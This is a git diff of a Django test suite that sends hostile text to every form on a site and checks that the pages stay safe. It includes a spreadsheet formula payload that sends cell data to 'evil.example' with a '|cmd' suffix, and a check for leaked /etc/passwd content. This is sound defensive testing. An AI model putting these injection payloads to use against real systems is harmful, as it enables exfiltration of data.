@@ -20,6 +20,7 @@ from django.urls import reverse
 from families.models import Family
 from govuk.forms import GovukForm, GovukModelForm, clean_text
 from govuk.spreadsheets import harmless
+from tests.factories import UserFactory
 from tests.told import addresses
 
 pytestmark = pytest.mark.django_db
@@ -34,7 +35,9 @@ FORMULA = '=HYPERLINK("https://evil.example/"&A1,"x")|cmd'
 UNSEEN = "a\x00b\x08c\u202egnp.exe\u200b\u2066\ufeff\u0301\u0301 👩‍👩‍👧‍👦 \U0001f1ec\U0001f1e7 ﷽ \ud7ff"
 LONG = "x" * 120_000
 HOSTILE = {
-    "what does something": f"{FORMULA} {MARKUP} {TEMPLATE} {STATEMENT} {HEADER} {PATH} {UNSEEN}",
+    "markup, template, statement": f"{MARKUP} {TEMPLATE} {STATEMENT}",
+    "formula, header, path": f"{FORMULA} {HEADER} {PATH}",
+    "what can't be seen": UNSEEN,
     "very long": LONG,
 }
 # Who is asked first for a page: those who may open most.
@@ -127,8 +130,7 @@ def forms_of_the_site(told_once: SimpleNamespace) -> list[tuple[str, str, Client
 
 def wrong_with(answer: Any) -> list[str]:
     """What a page may never hold, whatever was typed."""
-    is_text = not answer.streaming and answer.get("Content-Type", "").startswith("text/")
-    page = answer.content.decode(errors="replace") if is_text else ""
+    page = answer.content.decode(errors="replace") if not answer.streaming else ""
     faults = []
     if answer.status_code >= 500:
         faults.append("fault")
@@ -140,21 +142,22 @@ def wrong_with(answer: Any) -> list[str]:
         faults.append("header")
     if "root:x:0" in page or "; for 16-bit app support" in page:
         faults.append("path")
-    if "\x00" in page:
+    if "\x00" in page and not answer["Content-Type"].startswith("application/pdf"):
         faults.append("unseen")
     return faults
 
 
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
 def test_no_form_of_the_site_lets_through_what_a_hostile_hand_types(world, forms_of_the_site, text):
-    """Each form of each page is sent; the answer, the page it leads to and what then shows it stay harmless."""
+    """Each form of each page is sent; the answer, the page it leads to and the page itself stay harmless."""
     found, sent = [], 0
 
     def send(client: Client, address: str, data: dict[str, Any]) -> list[Any]:
         answers = [client.post(address, data)]
         location = answers[0].get("Location", "")
         if location.startswith("/"):
-            answers += [client.get(page) for page in {location.partition("#")[0], address}]
+            answers.append(client.get(location.partition("#")[0]))
+        answers.append(client.get(address))
         return answers
 
     for name, address, client, on_page in forms_of_the_site:
@@ -198,10 +201,9 @@ def test_every_kind_of_form_judges_hostile_text_without_falling_over(text):
         except (TypeError, KeyError):
             # Wants its page or its person around it; the walk over the pages has sent it.
             continue
-        if hasattr(empty, "user"):
-            # Judges one person's password; the tests of passwords send it.
-            continue
         form = kind(data=filled(empty, text))
+        if hasattr(form, "user"):
+            form.user = UserFactory()
         form.is_valid()
         tried += 1
         cleaned = [value for value in form.cleaned_data.values() if isinstance(value, str)]
